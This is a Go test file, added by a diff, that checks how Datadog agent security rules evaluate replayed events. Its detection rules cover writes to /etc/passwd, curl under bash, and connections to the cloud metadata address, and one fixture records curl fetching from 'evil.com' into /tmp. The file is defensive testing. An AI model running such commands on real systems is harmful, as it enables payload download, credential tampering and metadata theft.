@@ -0,0 +1,146 @@
+// Unless explicitly stated otherwise all files in this repository are licensed
+// under the Apache License Version 2.0.
+// This product includes software developed at Datadog (https://www.datadoghq.com/).
+// Copyright 2016-present Datadog, Inc.
+
+package replay
+
+import (
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+
+	"github.com/DataDog/datadog-agent/pkg/security/secl/compiler/eval"
+	"github.com/DataDog/datadog-agent/pkg/security/secl/model"
+	"github.com/DataDog/datadog-agent/pkg/security/secl/rules"
+)
+
+const testPolicy = `---
+rules:
+  - id: open_passwd
+    expression: open.file.path == "/etc/passwd" && open.flags & O_WRONLY > 0
+  - id: exec_from_bash
+    expression: exec.file.name == "curl" && process.ancestors.file.name == "bash" && process.args =~ "*evil*"
+  - id: connect_metadata
+    expression: connect.addr.ip in 169.254.0.0/16 && connect.addr.family == AF_INET
+`
+
+const testEvents = `
+{"evt":{"name":"open","outcome":"Success"},"file":{"path":"/etc/passwd","name":"passwd","flags":["O_WRONLY","O_CREAT"]},"process":{"pid":42,"executable":{"path":"/usr/bin/vim","name":"vim"}},"agent":{"rule_id":"open_passwd"}}
+{"evt":{"name":"open","outcome":"Success"},"file":{"path":"/tmp/test","name":"test","flags":["O_RDONLY"]},"process":{"pid":43,"executable":{"path":"/usr/bin/cat","name":"cat"}}}
+{"evt":{"name":"exec"},"process":{"pid":44,"executable":{"path":"/usr/bin/curl","name":"curl"},"args":["http://evil.com","-o","/tmp/x"],"ancestors":[{"pid":12,"executable":{"path":"/usr/bin/sh","name":"sh"}},{"pid":1,"executable":{"path":"/usr/bin/bash","name":"bash"}}]}}
+{"evt":{"name":"connect","outcome":"Success"},"connect":{"addr":{"family":"AF_INET","ip":"169.254.169.254","port":80},"protocol":"IP_PROTO_TCP"},"agent":{"rule_id":"exec_from_bash"}}
+{"evt":{"name":"unknown"}}
+`
+
+func newTestRuleSet(t *testing.T) (*rules.RuleSet, error) {
+	var opts rules.Opts
+	opts.
+		WithConstants(model.SECLConstants).
+		WithVariables(model.SECLVariables).
+		WithSupportedDiscarders(map[eval.Field]bool{"open.file.path": true}).
+		WithEventTypeEnabled(map[eval.EventType]bool{"*": true}).
+		WithLegacyFields(model.SECLLegacyFields).
+		WithLogger(&rules.NullLogger{})
+
+	m := &model.Model{}
+	ruleSet := rules.NewRuleSet(m, m.NewEvent, &opts)
+
+	dir := t.TempDir()
+	if err := os.WriteFile(filepath.Join(dir, "test.policy"), []byte(testPolicy), 0644); err != nil {
+		return nil, err
+	}
+
+	provider, err := rules.NewPoliciesDirProvider(dir, false)
+	if err != nil {
+		return nil, err
+	}
+
+	return ruleSet, ruleSet.LoadPolicies(rules.NewPolicyLoader(provider)).ErrorOrNil()
+}
+
+func TestReadEvents(t *testing.T) {
+	events, err := ReadEvents(strings.NewReader(testEvents))
+	require.NoError(t, err)
+	assert.Len(t, events, 5)
+	assert.Equal(t, "open", events[0].GetType())
+	assert.Equal(t, "open_passwd", events[0].GetRuleID())
+
+	events, err = ReadEvents(strings.NewReader(`[{"evt":{"name":"exec"}},{"evt":{"name":"exit"}}]`))
+	require.NoError(t, err)
+	assert.Len(t, events, 2)
+	assert.Equal(t, "exit", events[1].GetType())
+
+	_, err = ReadEvents(strings.NewReader(`{"evt":`))
+	assert.Error(t, err)
+}
+
+func TestNewEvent(t *testing.T) {
+	events, err := ReadEvents(strings.NewReader(testEvents))
+	require.NoError(t, err)
+
+	event, errs := NewEvent(events[0])
+	require.Empty(t, errs)
+	assert.Equal(t, "open", event.GetType())
+	assert.Equal(t, "/etc/passwd", event.Open.File.PathnameStr)
+	assert.Equal(t, uint32(model.SECLConstants["O_WRONLY"].(*eval.IntEvaluator).Value|model.SECLConstants["O_CREAT"].(*eval.IntEvaluator).Value), event.Open.Flags)
+	assert.Equal(t, "/usr/bin/vim", event.ProcessContext.FileEvent.PathnameStr)
+	assert.Equal(t, uint32(42), event.ProcessContext.Pid)
+
+	event, errs = NewEvent(events[2])
+	require.Empty(t, errs)
+	assert.Equal(t, []string{"http://evil.com", "-o", "/tmp/x"}, event.ProcessContext.Argv)
+	assert.Equal(t, "http://evil.com -o /tmp/x", event.ProcessContext.Args)
+	require.NotNil(t, event.ProcessContext.Ancestor)
+	require.NotNil(t, event.ProcessContext.Ancestor.Ancestor)
+	assert.Equal(t, "bash", event.ProcessContext.Ancestor.Ancestor.FileEvent.BasenameStr)
+
+	_, errs = NewEvent(events[4])
+	assert.NotEmpty(t, errs)
+
+	_, errs = NewEvent(RecordedEvent{"evt": map[string]interface{}{"name": "open"}, "file": map[string]interface{}{"flags": []interface{}{"O_UNKNOWN"}}})
+	assert.NotEmpty(t, errs)
+}
+
+func TestReplay(t *testing.T) {
+	ruleSet, err := newTestRuleSet(t)
+	require.NoError(t, err)
+
+	events, err := ReadEvents(strings.NewReader(testEvents))
+	require.NoError(t, err)
+
+	capabilities := map[eval.EventType]rules.FieldCapabilities{
+		"open": {
+			{
+				Field: "open.file.path",
+				Types: eval.ScalarValueType,
+			},
+		},
+	}
+
+	report := NewReplayer(ruleSet).Replay(events, nil, capabilities)
+	require.Len(t, report.Events, 5)
+	assert.True(t, report.Failed())
+
+	assert.Contains(t, report.Approvers, "open")
+
+	assert.Equal(t, []eval.RuleID{"open_passwd"}, report.Events[0].MatchedRules)
+	assert.False(t, report.Events[0].Failed())
+
+	assert.Empty(t, report.Events[1].MatchedRules)
+	assert.Equal(t, []DiscarderReport{{Field: "open.file.path", Value: "/tmp/test"}}, report.Events[1].Discarders)
+	assert.False(t, report.Events[1].Failed())
+
+	assert.Equal(t, []eval.RuleID{"exec_from_bash"}, report.Events[2].MatchedRules)
+
+	// the connect event matched another rule than the one that triggered it
+	assert.Equal(t, []eval.RuleID{"connect_metadata"}, report.Events[3].MatchedRules)
+	assert.True(t, report.Events[3].Failed())
+
+	assert.NotEmpty(t, report.Events[4].Errors)
+	assert.True(t, report.Events[4].Failed())
+}